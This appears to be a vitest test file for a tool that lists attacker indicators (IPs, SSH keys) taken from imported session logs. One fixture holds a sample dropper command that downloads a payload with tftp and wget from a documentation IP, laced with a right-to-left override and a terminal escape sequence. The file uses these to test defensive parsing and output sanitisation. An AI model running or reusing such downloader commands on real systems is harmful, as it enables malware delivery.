import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSystem, type System, unprintable } from '../../../test/setup/commands.ts';
import { droppers, sharedKey } from '../../../test/setup/droppers.ts';
import type { Indicator } from '../../model/indicator.ts';

let system: System;
beforeAll(async () => {
  system = await openSystem();
});
afterAll(() => system?.close());

it('says so where nothing is known', async () => {
  expect(await system.run('indicators')).toEqual({ code: 0, out: 'No indicators.\n', err: '' });
});

it('lists what attackers gave away, also of one type, or with a text in it', async () => {
  const log = join(system.folder, 'two.json');
  writeFileSync(
    log,
    droppers(
      ['203.0.113.9', '198.51.100.4'],
      'tftp -g -r \u202ex 203.0.113.66; wget http://203.0.113.66/\u001b[2J',
    ),
  );
  await system.run('import', log);
  const { code, out } = await system.run('indicators');
  expect(code).toBe(0);
  expect(out).toMatch(/^LAST \(UTC\) +TYPE +VALUE +SESSIONS +LABELS +HOW\n/);
  expect(out).not.toMatch(unprintable);
  const keys = await system.ask<Indicator>('indicators', '--type', 'ssh-key');
  expect(keys.map(({ value, sessions, labels }) => [value, sessions, labels])).toEqual([
    [sharedKey, 2, ['S1']],
  ]);
  const there = await system.ask<Indicator>('indicators', '--match', '203.0.113.66');
  expect(there.map(({ type }) => type)).toContain('ip');
  expect(await system.ask('indicators', '--match', 'nowhere')).toEqual([]);
});

it('refuses a type that there is not, and a limit that is no number', async () => {
  expect((await system.run('indicators', '--limit', 'all')).code).toBe(64);
  expect((await system.run('indicators', '--type', 'face')).code).not.toBe(0);
});
